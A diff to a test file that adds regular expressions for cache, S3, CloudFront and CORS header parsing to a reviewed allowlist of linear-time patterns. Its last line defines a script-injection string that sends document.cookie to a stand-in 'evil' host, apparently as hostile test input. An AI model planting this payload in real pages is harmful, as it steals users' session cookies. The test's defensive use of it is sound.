@@ -133,6 +133,16 @@ describe('time: every parser of untrusted text is linear', () => {
  * quantifier (the shape that backtracks), or runs only on our own short strings (error names, keys).
  */
 const REVIEWED_REGEXES = new Set([
+  // Cache marks (src/core/cache-key.ts): anchored literals, and two digit runs a space keeps apart.
+  '/^(refresh)?hit from cloudfront$/i',
+  '/^hit$/i',
+  '/^\\d+ \\d+$/',
+  // S3 and CloudFront (src/core/stacks/s3.ts, cloudfront.ts, fixes/s3.ts): anchored literals, one class run
+  // up to the first '/', ':', '?' or '#', and a bucket name bounded at 61 characters.
+  '/^AmazonS3$/i',
+  '/\\(CloudFront\\)/i',
+  '/^https?:\\/\\/([^/:?#]+)/i',
+  '/^[a-z0-9][a-z0-9.-]{1,61}[a-z0-9]$/',
   // CI formats and terminal output (src/cli/formats.ts, terminal.ts): single character classes, one-character
   // look-arounds, and one anchored run of \s before a literal ':' — each character is tried a bounded number
   // of times.
@@ -280,6 +290,12 @@ const REVIEWED_REGEXES = new Set([
   '/^GitHub\\.com$/i',
   '/^(co|com|net|org|gov|ac|edu|ne|or)\\.[a-z]{2}$/',
   '/\\.(test|localhost|local|internal|example|invalid|lan|home\\.arpa)$/',
+  // The one recommendation (src/core/fixes/recommend.ts, shared.ts): a single character class; anchored
+  // classes with a bounded count, on header names and values the engine already holds.
+  '/[:;(]/',
+  '/^[A-Za-z0-9*:/._-]{1,200}$/',
+  '/^[A-Za-z0-9*:/._, -]{1,200}$/',
+  '/^access-control-[a-z-]{1,40}$/i',
 ])
 
 const EVIL = "'+fetch('//evil/'+document.cookie)+'"
